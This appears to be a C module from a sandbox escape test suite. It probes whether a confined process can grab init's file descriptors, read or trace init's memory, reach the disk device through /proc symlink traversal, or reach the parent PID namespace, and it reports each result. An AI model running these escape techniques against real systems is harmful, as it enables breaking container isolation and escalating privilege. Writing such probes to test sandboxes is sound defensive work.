/* Looks for init and for what init has open: descriptors that the step inherited, and other processes. */
#define _GNU_SOURCE
#include "attack.h"
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/nsfs.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#define PIDS 2000

static void inherited_descriptors(void) {
  DIR *all = opendir("/proc/self/fd");
  for (struct dirent *entry; all && (entry = readdir(all));) {
    char link[300], name[300], to[256] = "";
    if (!isdigit(entry->d_name[0]) || atoi(entry->d_name) == dirfd(all)) continue;
    snprintf(link, sizeof link, "/proc/self/fd/%s", entry->d_name);
    snprintf(name, sizeof name, "descriptor %s", entry->d_name);
    ssize_t size = readlink(link, to, sizeof to - 1);
    say(name, "%.*s", size < 0 ? 0 : (int)strcspn(to, ":"), to);
  }
  if (all) closedir(all);
}

/* Tries to open a disk through the links of every process that /proc shows. */
static void links_of_processes(void) {
  char reached[600] = "none";
  DIR *all = opendir("/proc");
  for (struct dirent *entry; all && (entry = readdir(all));) {
    if (!isdigit(entry->d_name[0])) continue;
    static const char *const links[] = {"root", "cwd", "root/..", "cwd/../../../../..", "task/1/root"};
    for (size_t i = 0; i < 5 + 64; i++) {
      char path[500];
      if (i < 5) snprintf(path, sizeof path, "/proc/%s/%s/dev/vda", entry->d_name, links[i]);
      else snprintf(path, sizeof path, "/proc/%s/fd/%zu/../../../../dev/vda", entry->d_name, i - 5);
      if (open(path, O_RDONLY) >= 0) strcpy(reached, path);
    }
  }
  if (all) closedir(all);
  say("disk through /proc", "%s", reached);
}

/* Counts processes that do not belong to this program, which has no children now. */
static void other_processes(void) {
  int signaled = 0, opened = 0;
  for (pid_t pid = 1; pid <= PIDS; pid++) {
    if (pid == getpid()) continue;
    if (!kill(pid, 0) || errno == EPERM) signaled++;
    int process = (int)syscall(SYS_pidfd_open, pid, 0);
    if (process >= 0) opened++, close(process);
  }
  say("other processes", "%d signaled, %d opened", signaled, opened);
  say("parent", "%d", getppid());
}

/* Attacks the first process that is not this one, as init would be. */
static void first_process(void) {
  char name[64] = "", word[8] = "";
  int file = open("/proc/1/comm", O_RDONLY);
  if (file >= 0 && read(file, name, sizeof name - 1) > 0) name[strcspn(name, "\n")] = 0;
  say("process 1", "%s", name);
  if (getpid() == 1) return;
  int process = (int)syscall(SYS_pidfd_open, 1, 0), got = -1;
  for (int fd = 3; fd < 64 && got < 0; fd++) {
    struct stat is;
    got = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
    if (got >= 0 && (fstat(got, &is) || !S_ISCHR(is.st_mode))) close(got), got = -1;
  }
  report("port of init by pidfd_getfd", got);
  unsigned long start = 0;
  FILE *maps = fopen("/proc/1/maps", "r");
  if (!maps || fscanf(maps, "%lx", &start) != 1) return report("memory of init", -1);
  struct iovec to = {word, sizeof word}, from = {(void *)(uintptr_t)start, sizeof word};
  report("memory of init", process_vm_readv(1, &to, 1, &from, 1, 0));
  report("trace of init", ptrace(PTRACE_SEIZE, 1, NULL, NULL));
}

void attack_processes(void) {
  inherited_descriptors();
  other_processes();
  first_process();
  links_of_processes();
  int space = open("/proc/self/ns/pid", O_RDONLY);
  report("parent of the pid namespace", ioctl(space, NS_GET_PARENT));
  close(space);
}
